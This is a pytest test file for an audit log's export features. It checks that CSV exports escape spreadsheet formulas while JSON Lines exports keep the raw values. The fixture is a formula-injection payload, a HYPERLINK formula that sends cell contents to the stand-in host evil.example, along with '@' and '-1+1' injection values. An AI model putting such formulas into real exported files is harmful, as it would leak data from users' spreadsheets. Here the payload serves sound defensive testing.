"""The audit explorer's CSV export neutralises spreadsheet formulas in every text column, on
the platform's and on a tenant's export; the JSON Lines export keeps the stored values."""

import csv
import io
import json

import pytest

import audit
from audit.selectors import EXPORT_FIELDS

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"details")'


def _table(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text), fieldnames=EXPORT_FIELDS))[1:]


@pytest.fixture
def hostile_event(tenant):
    return audit.record(action="test.hostile", actor=HYPERLINK, tenant=tenant,
                        target=("@target", "-1+1"), details={"name": HYPERLINK})


def test_platform_and_tenant_csv_exports_are_neutralised(client, hostile_event, tenant,
                                                         compliance_officer, tenant_admin):
    client.force_login(compliance_officer)
    platform = _table(client.get("/audit/export.csv", {"action": "test.hostile"}))
    client.force_login(tenant_admin)
    scoped = _table(client.get(f"/t/{tenant.slug}/audit/export.csv", {"action": "test.hostile"}))

    for rows in (platform, scoped):
        (row,) = rows
        assert row["actor_label"] == "'" + HYPERLINK
        assert row["target_type"] == "'@target" and row["target_id"] == "'-1+1"
        assert json.loads(row["details"]) == {"name": HYPERLINK}  # JSON: starts with "{"
        assert int(row["seq"]) == hostile_event.seq


def test_json_lines_export_keeps_the_stored_values(client, hostile_event, compliance_officer):
    client.force_login(compliance_officer)
    response = client.get("/audit/export.jsonl", {"action": "test.hostile"})
    (row,) = [json.loads(line) for line in b"".join(response.streaming_content).splitlines()]
    assert row["actor_label"] == HYPERLINK and row["hash"] == hostile_event.hash
